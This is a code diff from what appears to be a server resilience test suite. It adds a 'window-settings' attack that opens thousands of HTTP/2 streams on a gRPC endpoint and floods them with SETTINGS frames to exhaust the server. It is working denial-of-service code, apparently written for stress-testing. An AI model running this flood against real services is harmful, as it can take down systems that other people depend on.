@@ -57,6 +57,30 @@ export const settingsFloodUnread: Attack = {
   run: (context) => flood(context, () => settingsFrame, false),
 };
 
+export const windowSettings: Attack = {
+  name: "window-settings",
+  sends: "SETTINGS that change the window of 5000 open streams, without pause, on 4 connections",
+  right: "HTTP/2 looks at every open stream for each, so a connection may bring few in a second",
+  form: "full",
+  async run({ addresses, outcomes, signal }) {
+    const head = grpcHead(pathOf("keepAlive"));
+    await untilOver(4, signal, async () => {
+      using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
+      for (let opened = 0; opened < 5_000; opened += 500) {
+        const streams = Array.from({ length: 500 }, () =>
+          frame(frames.headers, flags.endHeaders, connection.nextStream(), head),
+        );
+        await connection.send(Buffer.concat(streams));
+      }
+      const burst = Buffer.concat(Array.from({ length: 500 }, () => settingsFrame));
+      while (connection.isOpen && !signal.aborted) {
+        await connection.send(burst);
+        outcomes.see("sent", 500);
+      }
+    });
+  },
+};
+
 export const priorityFlood: Attack = {
   name: "priority-flood",
   sends: "PRIORITY frames for streams that are not there, without pause, on 4 connections",
